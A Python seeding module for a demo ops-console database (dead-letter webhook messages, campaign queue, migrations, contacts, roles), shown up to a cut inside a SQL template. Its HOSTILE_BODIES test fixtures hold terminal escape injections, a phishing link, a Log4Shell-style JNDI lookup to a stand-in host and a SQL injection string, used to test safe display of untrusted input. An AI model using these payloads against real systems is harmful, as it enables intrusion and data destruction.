"""Schema and data of a Supabase project of this kind, for the embedded demo database.

The schema is what the console's DLQ triage and session actions will work on, so it is designed
for them now:

* `public.dead_letter_messages`: one row per webhook body that failed processing. A body that
  parsed as JSON is kept in `payload jsonb`; one that did not (form-encoded, truncated, empty)
  is kept verbatim in `payload_raw text` with `payload` null. `status` is
  waiting | requeued | discarded (CHECK), with `requeued_at`/`discarded_at`/`discard_reason`,
  `attempts`, `error_code int`, `error_message`, `message_sid`, `endpoint`, `workflow`,
  `payload_bytes` (so a list never has to fetch a 5 MB payload to show its size). Keyset
  pagination runs on `(received_at desc, id desc)`, with a partial index for waiting rows (it also
  makes the waiting count cheap) and one per error code.
* `public.campaign_queue`: the re-queue target of `[dlq] requeue = {kind="table"}`.
* For the DLQ triage tab (`adapters.dlq`): a `history jsonb` column (what a payload fix replaced,
  discards and their undo), a partial `(error_code, received_at, id) where waiting` index (code
  filters and grouped counts from the index alone), and a unique index on
  `campaign_queue.dlq_message_id` (a message can never be queued twice). `generate_messages`
  appends a million generated rows in ~15 s for benchmarks and scale tests.
* `supabase_migrations.schema_migrations` as the Supabase CLI writes it, with the `rollback text[]`
  column the Management API's migration history carries (read only where it exists).
* `public.contacts` (for the migration drills): 5,000 contacts, 1,204 of them opted out with an
  `opt_out_reason` (the column the newest destructive migration added and its rollback drops, so a
  revert's dry run counts real values). Two destructive migrations touch it: one with rollback
  statements (`contacts_opt_out_reason_and_e164`: adds `opt_out_reason`, renames `phone` to
  `phone_e164`) and one without (`contacts_first_name_varchar_and_drop_legacy`: ALTER COLUMN TYPE
  and DROP TABLE). In `bad-migration` the first went out 40 minutes ago and broke the API (it still
  reads `contacts.phone`); `data-corruption` then runs a bad UPDATE (`corrupt`) after the demo took
  its backup copy.
* Roles: `ops` plays Supabase's `postgres` (owns the database and the tables, NOT a
  superuser, sees all queries via pg_read_all_stats, may signal `service_worker` backends because
  it is a member, but NOT `authenticator` ones: it is deliberately not in pg_signal_backend, so
  "permission denied" on terminate is realistic); `postgres.<project_ref>` is the pooler user
  (Supavisor's tenant-style name); `service_worker` and `authenticator` run the app/BI sessions.

Data is generated deterministically (a seeded RNG) in Python and loaded with COPY: fast
(3000 rows well under a second) and with exact, known counts.
"""

from __future__ import annotations

import json
import random
import time
from collections import Counter
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

import psycopg
from psycopg import sql

from opsconsole.demo.scenario import PROJECT_REF, SCENARIOS, DemoSecrets, has

OWNER_ROLE = "ops"
POOLER_ROLE = f"postgres.{PROJECT_REF}"
WORKER_ROLE = "service_worker"
READER_ROLE = "authenticator"
LOGIN_ROLES = (OWNER_ROLE, POOLER_ROLE, WORKER_ROLE, READER_ROLE)

DLQ_TABLE = "public.dead_letter_messages"
QUEUE_TABLE = "public.campaign_queue"

# Share of each Twilio error code among well-formed rows (per 100).
ERROR_CODES: Mapping[int, tuple[int, str]] = {
    30008: (46, "Unknown error"),
    30003: (12, "Unreachable destination handset"),
    30005: (8, "Unknown destination handset"),
    30006: (7, "Landline or unreachable carrier"),
    30007: (7, "Message filtered by the carrier"),
    21610: (5, "Attempt to send to unsubscribed recipient"),
    11200: (8, "HTTP retrieval failure"),
    11205: (4, "HTTP connection failure"),
    11217: (3, "HTTP error response code from the webhook"),
}
NEVER_REQUEUE = frozenset({21610, 30004, 30005, 30006, 30007})

ENDPOINTS = ("/webhooks/twilio/status", "/webhooks/twilio/status", "/webhooks/twilio/status",
             "/webhooks/twilio/inbound", "/api/sms/callback")
WORKFLOWS = ("campaign-send", "appointment-reminders", "opt-out-sync", "n8n:lead-sync", "payment-reminders")
BODIES = (
    "Hi {name}, your appointment at {place} is tomorrow at {hour}:00. Reply C to confirm or STOP to opt out.",
    "{name}, your order #{num} has shipped. Track it at https://t.example.com/{num}",
    "Reminder: your payment of ${num} is due on Friday. Reply HELP for help.",
    "Your verification code is {num}. It expires in 10 minutes.",
    "Hey {name}! Spring sale: 20% off everything this weekend at {place}. Reply STOP to opt out.",
)
NAMES = ("Ana", "Ben", "Chloé", "Dmitri", "Emeka", "Fatima", "Grace", "Hiro", "Ines", "Jamal", "Kofi", "Lena")
PLACES = ("Downtown Clinic", "Harbor Dental", "Northside Store", "Elm St. Pharmacy", "City Gym")

# Untrusted text as a hostile or broken sender could deliver it: Rich/Textual markup, ANSI CSI,
# OSC title/hyperlink, C1 controls, bidi overrides, injection attempts, very long text.
HOSTILE_BODIES = (
    "[bold]URGENT[/bold] your account is locked [/x]",
    "Reply [/x] to stop [link=https://evil.example/login]verify your account[/link]",
    "\x1b[31mRED ALERT\x1b[0m account locked",
    "\x1b]0;pwned terminal title\x07hello",
    "\x1b[2J\x1b[Hscreen cleared",
    "\x1b]8;;https://evil.example\x07click me\x1b]8;;\x07",
    "first line\roverwritten by carriage return",
    "\u202egnp.exe receipt",
    "zero\u200bwidth\u200bspaces and e\u0301 combining 🚨🔥",
    "[red on white blink]flash[/] [@click=app.quit]quit[/]",
    "{{ $json.body }} ${jndi:ldap://evil.example/a}",
    "'; DROP TABLE dead_letter_messages; --",
    "\x9b31mC1 CSI\x9b0m and bell\x07 and backspace\x08\x08",
    "very long: " + "lorem ipsum dolor sit amet " * 2000,
)
HOSTILE_ERROR_MESSAGE = "[bold red]carrier rejected[/] \x1b[5mblink\x1b[0m"
HOSTILE_WORKFLOW = "[i]n8n[/i]\x1b[0m-sync"
HUGE_PAYLOAD_BYTES = 5 * 1024 * 1024


@dataclass(frozen=True, slots=True)
class SeedReport:
    """What `seed` put into the database (exact; the data is deterministic per scenario)."""

    scenario: str
    messages: int
    by_error_code: Mapping[int | None, int]
    malformed: int
    hostile: int
    waiting: int
    recent_15m: int
    campaign_queue: int
    migrations: int
    elapsed_s: float
    statuses: Mapping[str, int] = field(default_factory=dict)
    contacts: int = 0
    opt_out_reasons: int = 0  # non-null contacts.opt_out_reason values (what reverting the migration loses)


SCHEMA_SQL = """
create schema if not exists supabase_migrations;
create table supabase_migrations.schema_migrations (
    version text primary key,
    statements text[],
    name text,
    rollback text[]
);

create table public.dead_letter_messages (
    id bigint generated by default as identity primary key,
    received_at timestamptz not null default now(),
    endpoint text not null,
    workflow text,
    message_sid text,
    account_sid text,
    error_code integer,
    error_message text,
    attempts integer not null default 1 check (attempts >= 0),
    last_attempt_at timestamptz,
    status text not null default 'waiting'
        constraint dead_letter_messages_status_check check (status in ('waiting', 'requeued', 'discarded')),
    requeued_at timestamptz,
    requeued_by text,
    requeue_ref text,
    discarded_at timestamptz,
    discarded_by text,
    discard_reason text,
    payload jsonb,
    payload_raw text,
    payload_bytes integer not null default 0,
    history jsonb not null default '[]'::jsonb,
    constraint dead_letter_messages_payload_check check (payload is not null or payload_raw is not null),
    constraint dead_letter_messages_requeued_check check (status <> 'requeued' or requeued_at is not null),
    constraint dead_letter_messages_discarded_check check (
        status <> 'discarded' or (discarded_at is not null and coalesce(btrim(discard_reason), '') <> ''))
);
comment on column public.dead_letter_messages.payload is 'webhook body when it parsed as JSON';
comment on column public.dead_letter_messages.payload_raw is 'webhook body verbatim when it did not parse';
create index dead_letter_messages_received_idx on public.dead_letter_messages (received_at desc, id desc);
create index dead_letter_messages_waiting_idx on public.dead_letter_messages (received_at desc, id desc)
    where status = 'waiting';
create index dead_letter_messages_error_code_idx
    on public.dead_letter_messages (error_code, received_at desc, id desc);
create index dead_letter_messages_message_sid_idx on public.dead_letter_messages (message_sid);

create table public.campaign_queue (
    id bigint generated by default as identity primary key,
    campaign_id text not null,
    to_number text not null,
    body text not null,
    payload jsonb not null default '{}'::jsonb,
    status text not null default 'pending'
        constraint campaign_queue_status_check check (status in ('pending', 'processing', 'sent', 'failed')),
    attempts integer not null default 0,
    enqueued_at timestamptz not null default now(),
    available_at timestamptz not null default now(),
    locked_by text,
    locked_at timestamptz,
    source text not null default 'app',
    dlq_message_id bigint
);
create index campaign_queue_pending_idx on public.campaign_queue (available_at, id) where status = 'pending';
create index campaign_queue_dlq_idx on public.campaign_queue (dlq_message_id)
    where dlq_message_id is not null;
""" + """
-- Added for the DLQ triage tab (opsconsole.adapters.dlq); all additive.
comment on column public.dead_letter_messages.history is
    'console edits: the payload a fix replaced, discards and their undo (nothing is ever lost)';
create index dead_letter_messages_waiting_code_idx
    on public.dead_letter_messages (error_code, received_at desc, id desc) where status = 'waiting';
create unique index campaign_queue_dlq_message_key on public.campaign_queue (dlq_message_id)
    where dlq_message_id is not null;
"""

CONTACTS_SQL = """
create table public.contacts (
    id bigint generated by default as identity primary key,
    phone_e164 text not null,
    first_name varchar(40),
    opted_out boolean not null default false,
    opt_out_reason text,
    created_at timestamptz not null default now(),
    updated_at timestamptz not null default now()
);
create index contacts_updated_idx on public.contacts (updated_at);
"""
CONTACTS = 5000
# Opted out: 1,204 of the 5,000 (g % 25 < 6 gives 1,200; four more opted out by hand).
_CONTACTS_INSERT = """
insert into public.contacts (phone_e164, first_name, opted_out, opt_out_reason, created_at, updated_at)
select '+1' || (array[212, 312, 415, 617, 646, 718, 917])[1 + g %% 7]
       || lpad((2000000 + g * 7919 %% 7999999)::text, 7, '0'),
       (array['Ana', 'Ben', 'Chloé', 'Dmitri', 'Emeka', 'Fatima', 'Grace', 'Hiro', 'Ines', 'Jamal'])[1 + g %% 10],
       opted, case when opted then (array['replied STOP', 'replied STOP', 'carrier opt-out',
                                          'asked support'])[1 + g %% 4] end,
       %(now)s - make_interval(days => 30 + g %% 170, secs => g),
       case when opted then %(reason_at)s + make_interval(secs => g %% 600)
            else %(now)s - make_interval(days => 30 + g %% 170, secs => g) end
from (select g, (g %% 25 < 6 or g in (7, 13, 19, 4999)) as opted from generate_series(1, %(n)s) g) s
"""
CORRUPT_PHONE = "+15555550100"
CORRUPTION_AGE = timedelta(minutes=25)

DLQ_COLUMNS = ("id", "received_at", "endpoint", "workflow", "message_sid", "account_sid", "error_code",
               "error_message", "attempts", "last_attempt_at", "status", "requeued_at", "requeued_by",
               "requeue_ref", "discarded_at", "discarded_by", "discard_reason", "payload", "payload_raw",
               "payload_bytes")


BAD_MIGRATION_NAME = "contacts_opt_out_reason_and_e164"
BAD_MIGRATION_ROLLBACK = ["alter table public.contacts rename column phone_e164 to phone",
                          "alter table public.contacts drop column opt_out_reason"]
BAD_MIGRATION_AGE = timedelta(minutes=40)


def bad_migration_time(scenario: str, now: datetime) -> datetime:
    """When the destructive migration with a rollback went out: 40 min ago in `bad-migration`."""
    return now - (BAD_MIGRATION_AGE if has(scenario, "bad-migration") else timedelta(days=6))


def _migrations(scenario: str, now: datetime) -> list[tuple[str, str, list[str], list[str] | None]]:
    """(version, name, statements, rollback) like `supabase db push` records them; in `incident` the
    newest one went out 47 minutes ago (runbook: "if a DB migration caused the issue"); in
    `bad-migration` the destructive contacts migration went out 40 minutes ago."""
    last = now - (timedelta(minutes=47) if has(scenario, "recent-migration") else timedelta(days=12))
    stamp = "%Y%m%d%H%M%S"
    return [(v, n, st, None) for v, n, st in _base_migrations(last)] + [
        ("20250702101500", "create_contacts",
         ["create table public.contacts (id bigint generated by default as identity primary key, "
          "phone text not null, first_name text, opted_out boolean not null default false, "
          "created_at timestamptz not null default now(), updated_at timestamptz not null default now())",
          "create index contacts_updated_idx on public.contacts (updated_at)"], None),
        ((now - timedelta(days=9, minutes=13)).strftime(stamp), "contacts_first_name_varchar_and_drop_legacy",
         ["alter table public.contacts alter column first_name type varchar(40)",
          "drop table if exists public.sms_optouts_legacy"], None),
        (bad_migration_time(scenario, now).strftime(stamp), BAD_MIGRATION_NAME,
         ["alter table public.contacts add column opt_out_reason text",
          "update public.contacts set opt_out_reason = 'replied STOP' where opted_out",
          "alter table public.contacts rename column phone to phone_e164"], list(BAD_MIGRATION_ROLLBACK)),
    ]


def _base_migrations(last: datetime) -> list[tuple[str, str, list[str]]]:
    return [
        ("20250114093012", "create_campaign_queue",
         ["create table public.campaign_queue (id bigint generated by default as identity primary key, "
          "campaign_id text not null, to_number text not null, body text not null, "
          "status text not null default 'pending', attempts integer not null default 0, "
          "enqueued_at timestamptz not null default now())"]),
        ("20250203151544", "create_dead_letter_messages",
         ["create table public.dead_letter_messages (id bigint generated by default as identity primary key, "
          "received_at timestamptz not null default now(), endpoint text not null, message_sid text, "
          "error_code integer, error_message text, attempts integer not null default 1, payload jsonb)"]),
        ("20250317110230", "dlq_status_and_discard_columns",
         ["alter table public.dead_letter_messages add column status text not null default 'waiting'",
          "alter table public.dead_letter_messages add column requeued_at timestamptz, "
          "add column discarded_at timestamptz, add column discard_reason text"]),
        ("20250502084501", "dlq_keyset_indexes",
         ["create index dead_letter_messages_received_idx on public.dead_letter_messages "
          "(received_at desc, id desc)",
          "create index dead_letter_messages_waiting_idx on public.dead_letter_messages "
          "(received_at desc, id desc) where status = 'waiting'"]),
        ("20250611162033", "dlq_payload_raw_and_workflow",
         ["alter table public.dead_letter_messages add column payload_raw text, add column workflow text, "
          "alter column payload drop not null"]),
        (last.strftime("%Y%m%d%H%M%S"), "campaign_queue_source_and_locking",
         ["alter table public.campaign_queue add column source text not null default 'app', "
          "add column dlq_message_id bigint, add column locked_by text, add column locked_at timestamptz",
          "create index campaign_queue_pending_idx on public.campaign_queue (available_at, id) "
          "where status = 'pending'"]),
    ]


class _Gen:
    """Deterministic generators for realistic Twilio-ish values."""

    def __init__(self, seed: int, account_sid: str) -> None:
        self.rng = random.Random(seed)
        self.account_sid = account_sid
        self.service_sid = "MG" + f"{random.Random(seed + 1).getrandbits(128):032x}"
        codes = list(ERROR_CODES)
        self._code_cycle = [c for c in codes for _ in range(ERROR_CODES[c][0])]

    def sid(self, prefix: str = "SM") -> str:
        return prefix + f"{self.rng.getrandbits(128):032x}"

    def phone(self) -> str:
        r = self.rng.random()
        if r < 0.8:
            area = self.rng.choice((212, 312, 415, 617, 646, 718, 917))
            return f"+1{area}{self.rng.randrange(2000000, 9999999)}"
        if r < 0.9:
            return f"+447{self.rng.randrange(100000000, 999999999)}"
        return f"+4915{self.rng.randrange(10000000, 99999999)}"

    def body(self) -> str:
        r = self.rng
        return r.choice(BODIES).format(name=r.choice(NAMES), place=r.choice(PLACES), hour=r.randrange(8, 18),
                                       num=r.randrange(100, 99999))

    def code(self, i: int) -> int:
        return self._code_cycle[(i * 37) % len(self._code_cycle)]

    def payload(self, code: int, *, body: str | None = None, sid: str | None = None) -> dict[str, Any]:
        sid = sid or self.sid()
        return {
            "MessageSid": sid,
            "SmsSid": sid,
            "AccountSid": self.account_sid,
            "MessagingServiceSid": self.service_sid,
            "From": "+14155550100",
            "To": self.phone(),
            "Body": body if body is not None else self.body(),
            "MessageStatus": "undelivered" if code in (30003, 30005, 30006) else "failed",
            "SmsStatus": "failed",
            "ErrorCode": str(code),
            "NumSegments": "1",
            "ApiVersion": "2010-04-01",
        }


def _received_times(scenario: str, n: int, now: datetime, rng: random.Random) -> list[datetime]:
    """incident: 48 h of failures with a burst (8 %) in the last 15 minutes; healthy: old only."""
    times: list[datetime] = []
    if has(scenario, "twilio-failing"):
        burst = max(1, round(n * 0.08))
        for _ in range(n - burst):
            times.append(now - timedelta(seconds=rng.uniform(16 * 60, 48 * 3600)))
        for _ in range(burst):
            times.append(now - timedelta(seconds=rng.uniform(1, 14 * 60)))
    else:
        for _ in range(n):
            times.append(now - timedelta(seconds=rng.uniform(6 * 3600, 14 * 86400)))
    times.sort()
    return times


def _state(scenario: str, code: int | None, received: datetime, now: datetime, rng: random.Random,
           ) -> tuple[str, dict[str, Any]]:
    age = now - received
    r = rng.random()
    if has(scenario, "twilio-failing"):
        if age < timedelta(minutes=15):
            requeue_p, discard_p = 0.0, 0.0
        elif age < timedelta(hours=24):
            requeue_p, discard_p = 0.2, 0.05
        else:
            requeue_p, discard_p = 0.55, 0.15
    else:
        requeue_p, discard_p = 0.55, 0.2
    retryable = code is not None and code not in NEVER_REQUEUE
    when = received + timedelta(minutes=rng.uniform(5, 120))
    who = rng.choice(("ops:alice", "ops:bala", "ops:chen"))
    if r < requeue_p and retryable:
        return "requeued", {"requeued_at": when, "requeued_by": who}
    if r < requeue_p + discard_p or (r < requeue_p and not retryable):
        reason = ("recipient unsubscribed (21610)" if code == 21610 else
                  "not retryable: carrier rejected the number" if code in NEVER_REQUEUE else
                  "malformed payload, nothing to re-send" if code is None else
                  "duplicate of a delivered message")
        return "discarded", {"discarded_at": when, "discarded_by": who, "discard_reason": reason}
    return "waiting", {}


def _rows(scenario: str, n: int, now: datetime, secrets: DemoSecrets, queue_offset: int,
          ) -> tuple[list[tuple[Any, ...]], Counter[str]]:
    """Build the DLQ rows; the Counter tracks categories for the report. Re-queued rows point at
    the campaign_queue ids they got (`queue_offset` + their rank)."""
    g = _Gen(20261127 if has(scenario, "twilio-failing") else 20250101, secrets.twilio_account_sid)
    rng = g.rng
    times = _received_times(scenario, n, now, rng)
    stats: Counter[str] = Counter()
    malformed_every = 50
    hostile_at = ({(k * n) // len(HOSTILE_BODIES) + 7 for k in range(len(HOSTILE_BODIES))}
                  if n >= 100 else set())
    huge_at = n // 2 if has(scenario, "twilio-failing") and n >= 100 else -1
    rows: list[tuple[Any, ...]] = []
    for i, received in enumerate(times):
        row_id = i + 1
        endpoint = rng.choice(ENDPOINTS)
        workflow: str | None = rng.choice(WORKFLOWS)
        code: int | None = g.code(i)
        # 11xxx: our webhook answered badly; in the incident burst the campaign sender mostly gets 30008.
        if has(scenario, "twilio-failing") and now - received < timedelta(minutes=15) and rng.random() < 0.7:
            code = 30008
        message: str | None = f"Twilio {code}: {ERROR_CODES[code][1]}" if code else None
        payload: dict[str, Any] | None
        raw: str | None = None
        sid: str | None = g.sid()
        if i in hostile_at:
            stats["hostile"] += 1
            body = HOSTILE_BODIES[sorted(hostile_at).index(i) % len(HOSTILE_BODIES)]
            payload = g.payload(code or 30008, body=body, sid=sid)
            if stats["hostile"] % 3 == 0:
                message = HOSTILE_ERROR_MESSAGE
            if stats["hostile"] % 4 == 0:
                workflow = HOSTILE_WORKFLOW
        elif i == huge_at:
            stats["huge"] += 1
            # A misbehaving client that posted a whole export as the message body.
            line = "row;+14155550123;delivered;2026-11-26T10:00:00Z;Reminder: see you soon\n"
            huge = (line * (HUGE_PAYLOAD_BYTES // len(line) + 1))[:HUGE_PAYLOAD_BYTES]
            payload = g.payload(code or 30008, body=huge, sid=sid)
            payload["MediaUrl0"] = "https://api.twilio.com/2010-04-01/Accounts/AC/Messages/MM/Media/ME"
        elif i % malformed_every == malformed_every - 1:
            stats["malformed"] += 1
            kind = (i // malformed_every) % 5
            good = g.payload(code or 30008, sid=sid)
            if kind == 0:  # form-encoded where JSON was expected
                raw = "&".join(f"{k}={v}".replace("+", "%2B").replace(" ", "+") for k, v in good.items())
            elif kind == 1:  # truncated JSON
                text = json.dumps(good)
                raw = text[: len(text) // 2]
            elif kind == 2:  # empty body
                raw = ""
            if raw is not None:
                payload, sid, code = None, None, None
                message = "payload is not valid JSON" if raw else "empty request body"
            elif kind == 3:  # JSON without the fields the handler needs
                payload = {k: v for k, v in good.items() if k not in ("MessageSid", "SmsSid", "ErrorCode")}
                sid, code, message = None, None, "missing MessageSid/ErrorCode"
            else:  # wrong types
                payload = {**good, "ErrorCode": "thirty-thousand-eight", "NumSegments": [1, 2]}
                code, message = None, "ErrorCode is not an integer"
        else:
            payload = g.payload(code or 30008, sid=sid)
        state, extra = _state(scenario, code, received, now, rng)
        if i == huge_at:  # keep the 5 MB one in the list the operator triages
            state, extra = "waiting", {}
        if state == "requeued":
            extra["requeue_ref"] = f"campaign_queue:{queue_offset + stats['status:requeued'] + 1}"
        payload_text = json.dumps(payload, ensure_ascii=False) if payload is not None else None
        size = len((payload_text if payload_text is not None else raw or "").encode())
        attempts = rng.choice((1, 1, 2, 3, 5)) if code != 30008 else rng.choice((3, 4, 5))
        stats[f"status:{state}"] += 1
        stats[f"code:{code}"] += 1
        if now - received <= timedelta(minutes=15):
            stats["recent"] += 1
        account = secrets.twilio_account_sid if sid else None
        rows.append((row_id, received, endpoint, workflow, sid, account, code, message, attempts,
                     received + timedelta(seconds=rng.uniform(1, 900)), state,
                     extra.get("requeued_at"), extra.get("requeued_by"), extra.get("requeue_ref"),
                     extra.get("discarded_at"), extra.get("discarded_by"), extra.get("discard_reason"),
                     payload_text, raw, size))
    return rows, stats


def _ensure_roles(cur: psycopg.Cursor[Any], password: str) -> None:
    """Create (or re-password) the login roles; cluster-wide, so safe to run per database."""
    existing = {r[0] for r in cur.execute("select rolname from pg_roles where rolname = any(%s)",
                                          [list(LOGIN_ROLES)]).fetchall()}
    attrs = {
        OWNER_ROLE: "login nosuperuser nocreaterole nocreatedb noreplication nobypassrls inherit",
        POOLER_ROLE: "login nosuperuser nocreaterole nocreatedb noreplication nobypassrls inherit",
        WORKER_ROLE: "login nosuperuser nocreaterole nocreatedb noreplication nobypassrls inherit",
        READER_ROLE: "login nosuperuser nocreaterole nocreatedb noreplication nobypassrls noinherit",
    }
    for role in LOGIN_ROLES:
        verb = "alter" if role in existing else "create"
        cur.execute(sql.SQL("{} role {} with {} password {}").format(
            sql.SQL(verb), sql.Identifier(role), sql.SQL(attrs[role]), sql.Literal(password)))
    cur.execute(sql.SQL("grant pg_read_all_stats to {}").format(sql.Identifier(OWNER_ROLE)))
    cur.execute(sql.SQL("grant {} to {}").format(sql.Identifier(WORKER_ROLE), sql.Identifier(OWNER_ROLE)))
    cur.execute(sql.SQL("grant {} to {}").format(sql.Identifier(OWNER_ROLE), sql.Identifier(POOLER_ROLE)))


def seed(admin_dsn: str, scenario: str, secrets: DemoSecrets, *, messages: int = 3000,
         now: datetime | None = None) -> SeedReport:
    """Create roles, schema and data in the database of `admin_dsn` (a fresh one).

    `messages` is the DLQ size in `incident`; `healthy` keeps a few old ones (at most 40).
    Runs in one transaction: a failure leaves nothing half-seeded.
    """
    if scenario not in SCENARIOS:
        raise ValueError(f"unknown scenario {scenario!r}")
    started = time.perf_counter()
    now = now or datetime.now(UTC)
    n = messages if has(scenario, "twilio-failing") else min(messages, 40)
    queue_n = max(20, n // 10)
    rows, stats = _rows(scenario, n, now, secrets, queue_n)
    migrations = _migrations(scenario, now)
    with psycopg.connect(admin_dsn, autocommit=False) as conn:
        cur = conn.cursor()
        _ensure_roles(cur, secrets.db_password)
        db = conn.info.dbname
        cur.execute(sql.SQL("alter database {} owner to {}").format(sql.Identifier(db),
                                                                     sql.Identifier(OWNER_ROLE)))
        cur.execute(sql.SQL("grant connect, temporary on database {} to {}, {}, {}").format(
            sql.Identifier(db), sql.Identifier(POOLER_ROLE), sql.Identifier(WORKER_ROLE),
            sql.Identifier(READER_ROLE)))
        cur.execute(sql.SQL("set local role {}").format(sql.Identifier(OWNER_ROLE)))
        cur.execute(SCHEMA_SQL)
        with cur.copy(sql.SQL("copy public.dead_letter_messages ({}) from stdin").format(
                sql.SQL(", ").join(sql.Identifier(c) for c in DLQ_COLUMNS))) as copy:
            for row in rows:
                copy.write_row(row)
        cur.execute("select setval(pg_get_serial_sequence('public.dead_letter_messages', 'id'), %s)",
                    [max(len(rows), 1)])
        cur.execute(
            """
            insert into public.campaign_queue
                (campaign_id, to_number, body, payload, status, attempts, enqueued_at, available_at)
            select (array['spring-sale', 'appointment-reminders', 'payment-reminders'])[1 + g %% 3],
                   '+1646' || lpad((2000000 + g * 7919 %% 7999999)::text, 7, '0'),
                   'Reminder ' || g || ': see you soon. Reply STOP to opt out.',
                   jsonb_build_object('campaign_step', 1 + g %% 4),
                   case when g %% 10 < 6 then 'pending' when g %% 10 < 8 then 'sent'
                        when g %% 10 = 8 then 'processing' else 'failed' end,
                   g %% 3, %(now)s - make_interval(mins => g), %(now)s - make_interval(mins => g)
            from generate_series(1, %(n)s) as g
            """, {"n": queue_n, "now": now})
        cur.execute(
            """
            insert into public.campaign_queue
                (id, campaign_id, to_number, body, payload, status, attempts, enqueued_at, available_at,
                 source, dlq_message_id)
            select %(offset)s + row_number() over (order by id), coalesce(workflow, 'unknown'),
                   coalesce(payload->>'To', '+10000000000'),
                   coalesce(payload->>'Body', ''), payload, 'sent', 1, requeued_at, requeued_at,
                   'dlq-requeue', id
            from public.dead_letter_messages where status = 'requeued'
            """, {"offset": queue_n})
        requeued_rows = cur.rowcount
        cur.execute("select setval(pg_get_serial_sequence('public.campaign_queue', 'id'), %s)",
                    [queue_n + requeued_rows])
        cur.executemany("insert into supabase_migrations.schema_migrations (version, name, statements, rollback) "
                        "values (%s, %s, %s, %s)", migrations)
        cur.execute(CONTACTS_SQL)
        cur.execute(_CONTACTS_INSERT, {"n": CONTACTS, "now": now,
                                       "reason_at": bad_migration_time(scenario, now)})
        counted = cur.execute("select count(*), count(opt_out_reason) from public.contacts").fetchone()
        contacts, reasons = (int(counted[0]), int(counted[1])) if counted else (0, 0)
        cur.execute(sql.SQL("grant usage on schema public to {}, {}").format(
            sql.Identifier(WORKER_ROLE), sql.Identifier(READER_ROLE)))
        cur.execute(sql.SQL("grant select, insert, update on public.campaign_queue, "
                            "public.dead_letter_messages, public.contacts"
                            " to {}").format(sql.Identifier(WORKER_ROLE)))
        cur.execute(sql.SQL("grant select on public.campaign_queue, public.dead_letter_messages, public.contacts "
                            "to {}").format(sql.Identifier(READER_ROLE)))
        cur.execute("reset role")
        conn.commit()
    with psycopg.connect(admin_dsn, autocommit=True) as conn:
        # Visibility map + statistics: index-only counts and sane plans right away.
        conn.execute("vacuum (analyze) public.dead_letter_messages, public.campaign_queue, public.contacts")
    by_code: dict[int | None, int] = {}
    for key, value in stats.items():
        if key.startswith("code:"):
            raw_code = key[5:]
            by_code[None if raw_code == "None" else int(raw_code)] = value
    return SeedReport(
        scenario=scenario, messages=len(rows), by_error_code=by_code, malformed=stats["malformed"],
        hostile=stats["hostile"], waiting=stats["status:waiting"], recent_15m=stats["recent"],
        campaign_queue=queue_n + requeued_rows, migrations=len(migrations),
        elapsed_s=time.perf_counter() - started,
        statuses={k[7:]: v for k, v in stats.items() if k.startswith("status:")},
        contacts=contacts, opt_out_reasons=reasons)


def corrupt(dsn: str, *, now: datetime | None = None) -> int:
    """`data-corruption`: the bad UPDATE (a campaign import that overwrote phone numbers), run as the
    owner role 25 minutes "ago"; the old numbers exist nowhere but in a backup. Returns the rows hit."""
    moment = (now or datetime.now(UTC)) - CORRUPTION_AGE
    with psycopg.connect(dsn, autocommit=True) as conn:
        cur = conn.execute("update public.contacts set phone_e164 = %s, updated_at = %s "
                           "where not opted_out and id %% 4 = 0", [CORRUPT_PHONE, moment])
        return cur.rowcount


# -- bulk generation (benchmarks, scale tests) --------------------------------------------------

@dataclass(frozen=True, slots=True)
class GenerateReport:
    """What `generate_messages` added (exact counts, read back from the table)."""

    table: str
    messages: int
    statuses: Mapping[str, int]
    queue_rows: int
    elapsed_s: float


# One INSERT … SELECT over generate_series: no rows cross the wire. `setseed` makes random()
# deterministic. Shapes follow `_Gen.payload`: every 50th row is malformed (a form-encoded body
# in payload_raw, no code, no SID), the rest carry a Twilio-like JSON body. Timestamps are whole
# seconds, so received_at ties are common (keyset pagination must break them by id). Re-queued
# rows take their campaign_queue id from the queue's own sequence, and the outer INSERT writes
# those queue rows in the same statement.
_GENERATE_SQL = """
with ins as (
insert into {table} (received_at, endpoint, workflow, message_sid, account_sid, error_code, error_message,
                     attempts, last_attempt_at, status, requeued_at, requeued_by, requeue_ref, discarded_at,
                     discarded_by, discard_reason, payload, payload_raw, payload_bytes)
select received_at, endpoint, workflow, sid, case when sid is not null then {account} end, code,
       case when malformed then 'payload is not valid JSON' else 'Twilio ' || code || ': ' || code_text end,
       attempts, received_at + make_interval(secs => 1 + r_misc * 900), status,
       case when status = 'requeued' then received_at + interval '10 minutes' end,
       case when status = 'requeued' then 'ops:generator' end,
       case when status = 'requeued' and {queue_seq}::text is not null
            then {queue_name} || nextval({queue_seq}::regclass) end,
       case when status = 'discarded' then received_at + interval '20 minutes' end,
       case when status = 'discarded' then 'ops:generator' end,
       case when status = 'discarded' then 'generated: not retryable' end,
       payload, raw, octet_length(coalesce(payload_text, raw))
from (
    select *, case when malformed then null else payload_text::jsonb end as payload
    from (
    select *, case when malformed then null else format(
                '{{"MessageSid": "%1$s", "SmsSid": "%1$s", "AccountSid": "%2$s", "MessagingServiceSid": "%3$s", '
                '"From": "+14155550100", "To": "%4$s", "Body": "%5$s", "MessageStatus": "%6$s", '
                '"SmsStatus": "failed", "ErrorCode": "%7$s", "NumSegments": "1", "ApiVersion": "2010-04-01"}}',
                sid0, {account}, {service}, phone, body,
                case when code0 in (30003, 30005, 30006) then 'undelivered' else 'failed' end, code0) end
                as payload_text,
              case when malformed then 'MessageSid=' || sid0 || '&To=' || replace(phone, '+', '%2B')
                   || '&Body=' || replace(body, ' ', '+') || '&ErrorCode=' || code0 end as raw,
              case when malformed then null else sid0 end as sid,
              case when malformed then null else code0 end as code,
              case when r_state < {waiting_share} then 'waiting'
                   when malformed or code0 = any({never}) then 'discarded'
                   when r_state < {waiting_share} + (1 - {waiting_share}) * 0.7 then 'requeued'
                   else 'discarded' end as status
    from (
        select g, g % 50 = 49 as malformed, r_misc,
               date_trunc('second', {now}::timestamptz - r_age * {spread}::interval) as received_at,
               'SM' || md5(({salt} + g)::text) as sid0,
               (array[{codes}])[1 + floor(r_code * {ncodes})::int] as code0,
               (array[{code_texts}])[1 + floor(r_code * {ncodes})::int] as code_text,
               (array[{endpoints}])[1 + g % {nendpoints}] as endpoint,
               (array[{workflows}])[1 + (g / 7) % {nworkflows}] as workflow,
               '+1' || (array[212, 312, 415, 617, 646, 718, 917])[1 + g % 7]
                    || (2000000 + floor(r_phone * 7999999)::int)::text as phone,
               case g % 5
                 when 0 then format('Hi %s, your appointment at %s is tomorrow at %s:00. Reply C to confirm '
